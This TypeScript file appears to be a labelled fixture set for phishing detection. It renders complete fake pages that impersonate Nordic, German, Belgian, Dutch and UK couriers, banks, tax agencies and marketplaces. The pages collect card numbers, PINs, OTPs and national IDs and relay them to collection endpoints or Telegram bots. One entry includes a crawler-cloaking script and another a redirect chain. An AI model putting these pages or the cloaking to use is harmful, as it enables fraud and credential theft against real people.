import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, footer, cardFields, cardFormat, relay, tgRelay, logo, type Lang } from '../parts/zs-kit.js';
import { jsRoute } from '../parts/e-bin.js';

const box = (lang: Lang, title: string, brand: string, color: string, inner: string, script: string, bar = '#fff') => doc({ lang, title, body: `<header class="top" style="background:${bar}">${logo(brand, color)}</header><main class="center" style="max-width:480px"><div class="card">${inner}</div></main>`, script });
const otpStep = (lang: Lang, brand: string, color: string, msg: string, btn: string) => htmlRoute(box(lang, brand, brand, color, `<h2>${msg}</h2><form id="o"><input name="otp" inputmode="numeric" maxlength="8" autocomplete="one-time-code" required><button class="btn" style="margin-top:12px;width:100%;background:${color}">${btn}</button></form>`, relay('o', 'next.php?s=otp', 'https://www.google.com/')));

export const entries: Entry[] = [
  {
    id: 'zs-parcel-postnord-fee-sv',
    label: 'phishing',
    kind: 'parcel-fee-kit',
    url: 'https://postnord-se.paket-avgift.com/sv/leverans?id=SE88123974',
    body: box('sv', 'PostNord – Betala avgift', 'PostNord', '#00a0d6', `<h1>Ditt paket väntar</h1><p>Försändelse <b>UA88123974SE</b> kunde inte levereras på grund av obetald tull- och hanteringsavgift (<b>29,00 kr</b>). Betala inom 48 timmar, annars returneras paketet.</p><form id="p"><label>Namn</label><input name="name"><label>Adress</label><input name="adr"><label>Personnummer</label><input name="pnr">${cardFields({ name: 'Kortinnehavare', num: 'Kortnummer', exp: 'MM/ÅÅ', cvc: 'CVV' })}<button class="btn" style="margin-top:12px;width:100%;background:#00a0d6">Betala 29,00 kr</button></form>`, cardFormat + relay('p', 'next.php?s=card', '/sv/verifiera')),
    routes: { 'postnord-se.paket-avgift.com/sv/verifiera': otpStep('sv', 'PostNord', '#00a0d6', 'Ange engångskoden som skickats till din telefon', 'Bekräfta') },
  },
  {
    id: 'zs-parcel-dhl-zoll-de',
    label: 'phishing',
    kind: 'parcel-fee-kit',
    url: 'https://dhl-de.sendungs-zoll.info/track/JJD000390007781',
    body: doc({ lang: 'de', title: 'DHL Sendungsverfolgung', body: `<header class="top" style="background:#ffcc00"><b style="color:#d40511;font-size:26px;font-style:italic">DHL</b></header><main class="center" style="max-width:520px"><div class="card"><h2>Sendung JJD000390007781</h2><ol style="font-size:14px"><li>Sendung im Start-Paketzentrum bearbeitet ✔</li><li>Zollabfertigung – <b style="color:#d40511">Zollgebühr ausstehend: 2,99 €</b></li></ol>
<form id="z"><label>Vollständiger Name</label><input name="name"><label>Geburtsdatum</label><input name="dob" placeholder="TT.MM.JJJJ"><label>Telefon</label><input name="tel">${cardFields({ name: 'Karteninhaber', num: 'Kartennummer', exp: 'Gültig bis', cvc: 'Prüfziffer' })}<button class="btn" style="margin-top:12px;width:100%;background:#d40511">Zollgebühr bezahlen</button></form></div></main>`, head: '<script src="/assets/anti.js"></script>', script: cardFormat + relay('z', '/panel/recv.php', '/track/wait') }),
    routes: { 'dhl-de.sendungs-zoll.info/assets/anti.js': jsRoute(`(function(){var u=navigator.userAgent;if(/Googlebot|bingbot|HeadlessChrome|Lighthouse|python|curl/i.test(u)||navigator.webdriver){document.documentElement.innerHTML='';location.replace('https://www.dhl.de/de/privatkunden.html')}})();`) },
  },
  {
    id: 'zs-toll-vegvesen-autopass-nb',
    label: 'phishing',
    kind: 'toll-kit',
    url: 'https://autopass-bompenger.online/nb/faktura',
    body: box('nb', 'Statens vegvesen – Ubetalt bompenger', 'Statens vegvesen', '#444f55', `<h1>Ubetalt bompengefaktura</h1><p>Kjøretøyet ditt har passert bomstasjon uten gyldig AutoPASS-avtale. Utestående beløp: <b>46,00 kr</b>. Ved manglende betaling innen 24 timer tilkommer gebyr på 300 kr.</p><form id="t"><label>Registreringsnummer</label><input name="reg" placeholder="EK 12345"><label>Fødselsnummer</label><input name="fnr">${cardFields({ name: 'Kortholder', num: 'Kortnummer', exp: 'Utløpsdato', cvc: 'CVC' })}<button class="btn" style="margin-top:12px;width:100%">Betal 46,00 kr</button></form>`, cardFormat + tgRelay('t', '7123390012:AAHk2sLw9xQp0Z', '-1002231187', '/nb/bankid', 'AUTOPASS NO')),
  },
  {
    id: 'zs-bank-sparkasse-pushtan-de',
    label: 'phishing',
    kind: 'bank-kit-otp',
    url: 'https://sparkasse-pushtan-aktualisierung.de/de/home/login.html',
    body: box('de', 'Sparkasse – Online-Banking', 'Sparkasse', '#ff0000', `<h1>S-pushTAN Verfahren aktualisieren</h1><p>Gemäß PSD2-Richtlinie ist eine erneute Registrierung Ihres pushTAN-Verfahrens bis zum ${new Date(Date.now() + 864e5 * 2).toLocaleDateString('de-DE')} erforderlich. Andernfalls wird Ihr Online-Banking eingeschränkt.</p><form id="l"><label>Bankleitzahl oder Name Ihrer Sparkasse</label><input name="blz"><label>Anmeldename oder Legitimations-ID</label><input name="user"><label>PIN</label><input name="pin" type="password"><label>Mobilnummer</label><input name="tel"><button class="btn" style="margin-top:12px;width:100%;background:#ff0000">Anmelden</button></form>`, relay('l', '/de/home/next.php', '/de/home/warten.html')),
  },
  {
    id: 'zs-bank-ing-vpass-be-nl',
    label: 'phishing',
    kind: 'bank-kit-card',
    url: 'https://secure-ing-be.kaartlezer-vernieuwen.com/nl/',
    body: box('nl', 'ING België – Vernieuw uw kaartlezer', 'ING', '#ff6200', `<h1>Uw ING card reader verloopt</h1><p>Vraag gratis een nieuwe kaartlezer aan. Bevestig hiervoor uw bankkaart.</p><form id="k"><label>Kaartnummer (67…)</label><input name="card" data-cc><label>Vervaldatum</label><input name="exp" data-exp><label>Response-code (uit uw kaartlezer)</label><input name="resp" maxlength="8"><label>Telefoonnummer</label><input name="tel"><button class="btn" style="margin-top:12px;width:100%;background:#ff6200">Bevestigen</button></form>`, cardFormat + relay('k', '/api/handle.php', '/nl/wachten')),
  },
  {
    id: 'zs-bank-swedbank-bankid-qr-sv',
    label: 'phishing',
    kind: 'bank-kit-otp',
    url: 'https://swedbank-se.kundvalidering.com/bankid',
    body: box('sv', 'Swedbank – Logga in', 'Swedbank', '#ee7023', `<h1>Verifiera dig med BankID</h1><p>Din kundkännedom behöver uppdateras. Skanna QR-koden med BankID-appen.</p><img id="qr" alt="QR" width="200" height="200" style="display:block;margin:12px auto;background:#eee"><p class="small">Kod uppdateras var 2:a sekund</p><form id="p"><label>Personnummer</label><input name="pnr"><button class="btn" style="margin-top:12px;width:100%;background:#ee7023">Öppna BankID</button></form>`, `setInterval(function(){fetch('/q.php?op=qr').then(function(r){return r.json()}).then(function(j){if(j.qr)document.getElementById('qr').src=j.qr;if(j.done)location.href='/klar'}).catch(function(){})},2000);` + relay('p', '/q.php?op=pnr', '/bankid/vantar')),
  },
  {
    id: 'zs-gov-energy-rebate-uk',
    label: 'phishing',
    kind: 'gov-rebate-kit',
    url: 'https://energy-bill-support-gov.uk-rebate.com/apply',
    body: doc({ lang: 'en', title: 'Energy Bills Support Scheme – Apply for your £400 discount – GOV.UK', body: `<header class="top" style="background:#0b0c0c"><b style="color:#fff;font-size:22px">GOV.UK</b></header><main style="max-width:640px"><h1>Apply for the Energy Bills Support Scheme</h1><p>You are eligible for a one-off discount of <b>£400</b>. Applications close at midnight.</p><form id="e" class="card"><label>Full name</label><input name="name"><label>Date of birth</label><input name="dob"><label>Address and postcode</label><input name="addr"><label>Mobile number</label><input name="mob"><h3>Where should we pay your discount?</h3>${cardFields({ name: 'Name on card', num: 'Debit card number', exp: 'Expiry date', cvc: 'Security code' })}<label>Mother's maiden name</label><input name="mmn"><button class="btn" style="margin-top:12px;background:#00703c">Submit application</button></form></main>`, script: cardFormat + relay('e', '/process/step2.php', '/complete') }),
  },
  {
    id: 'zs-gov-skatteverket-refund-sv',
    label: 'phishing',
    kind: 'gov-tax-refund-kit',
    url: 'https://skatteverket.aterbetalning-se.com/',
    body: box('sv', 'Skatteverket – Skatteåterbäring', 'Skatteverket', '#2b6a3b', `<h1>Du har en skatteåterbäring på 3 847 kr</h1><p>Enligt vår beräkning har du rätt till återbetalning av preliminärskatt. Ange kortuppgifter för utbetalning inom 3 bankdagar.</p><form id="r"><label>Personnummer</label><input name="pnr">${cardFields({ name: 'Kortinnehavare', num: 'Kortnummer', exp: 'Giltig t.o.m.', cvc: 'CVC' })}<button class="btn" style="margin-top:12px;width:100%;background:#2b6a3b">Begär utbetalning</button></form>`, cardFormat + relay('r', '/gate.php', '/bankid')),
  },
  {
    id: 'zs-gov-belastingdienst-toeslag-nl',
    label: 'phishing',
    kind: 'gov-tax-refund-kit',
    url: 'https://mijn-belastingdienst.toeslag-terugbetaling.nl/digid',
    body: box('nl', 'DigiD – Inloggen', 'DigiD', '#e17000', `<h1>Inloggen bij Belastingdienst</h1><p>U heeft recht op een terugbetaling van te veel betaalde energietoeslag (€ 412,50). Log in met DigiD om uw rekeningnummer te bevestigen.</p><form id="d"><label>DigiD gebruikersnaam</label><input name="u"><label>Wachtwoord</label><input name="p" type="password"><label>IBAN</label><input name="iban"><button class="btn" style="margin-top:12px;width:100%;background:#e17000">Inloggen</button></form>`, relay('d', '/digid/next.php', '/digid/sms')),
  },
  {
    id: 'zs-escrow-marketplace-sale-nb',
    label: 'phishing',
    kind: 'marketplace-payment-kit',
    url: 'https://finn-no.sikker-betaling.shop/mottak/91822',
    body: box('nb', 'FINN – Motta betaling', 'FINN', '#0063fb', `<h1>Kjøperen har betalt for varen din</h1><p>Annonse: <b>Sykkel Trek FX 3</b> · 4 500 kr</p><p>Pengene er reservert med FINN Fiks ferdig. For å motta pengene på kortet ditt, bekreft kortopplysningene dine.</p><form id="m">${cardFields({ name: 'Navn', num: 'Kortnummer', exp: 'Utløp', cvc: 'CVC' })}<label>Saldo på kortet (for verifisering)</label><input name="bal"><button class="btn" style="margin-top:12px;width:100%;background:#0063fb">Motta 4 500 kr</button></form>`, cardFormat + tgRelay('m', '6802219931:AAEw0qLm4kZ', '-1001994410', '/mottak/kode', 'FINN NO')),
  },
  {
    id: 'zs-escrow-tori-delivery-fi',
    label: 'phishing',
    kind: 'marketplace-payment-kit',
    url: 'https://tori-fi.toimitus-maksu.com/tilaus/3319',
    body: box('fi', 'Tori – Turvallinen toimitus', 'Tori', '#f9423a', `<h1>Ostaja on maksanut tuotteen</h1><p>Tuote: iPhone 13 128 Gt · 420 €. Vastaanottaaksesi maksun vahvista pankkikorttisi.</p><form id="t">${cardFields({ name: 'Nimi', num: 'Kortin numero', exp: 'Voimassa', cvc: 'CVV' })}<button class="btn" style="margin-top:12px;width:100%;background:#f9423a">Vastaanota 420 €</button></form>`, cardFormat + relay('t', '/handler.php', '/tilaus/vahvistus')),
  },
  {
    id: 'zs-escrow-dba-redirect-short-da',
    label: 'phishing',
    kind: 'marketplace-payment-kit',
    url: 'https://dba-dk.l-ink.click/x/8812',
    routes: {
      'dba-dk.l-ink.click/x/8812': redirectRoute(302, 'https://dba.dk-modtag-betaling.com/payment/8812'),
      'dba.dk-modtag-betaling.com/payment/8812': htmlRoute(box('da', 'DBA – Modtag betaling', 'DBA', '#00a1e0', `<h1>Du har solgt en vare</h1><p>Køber har betalt <b>1.250 kr.</b> for "Sofabord i eg". Pengene frigives når du har bekræftet dit kort.</p><form id="d">${cardFields({ name: 'Kortholder', num: 'Kortnummer', exp: 'Udløb', cvc: 'Kontrolcifre' })}<button class="btn" style="margin-top:12px;width:100%;background:#00a1e0">Modtag pengene</button></form>`, cardFormat + relay('d', '/payment/next.php', '/payment/mitid'))),
    },
  },
];
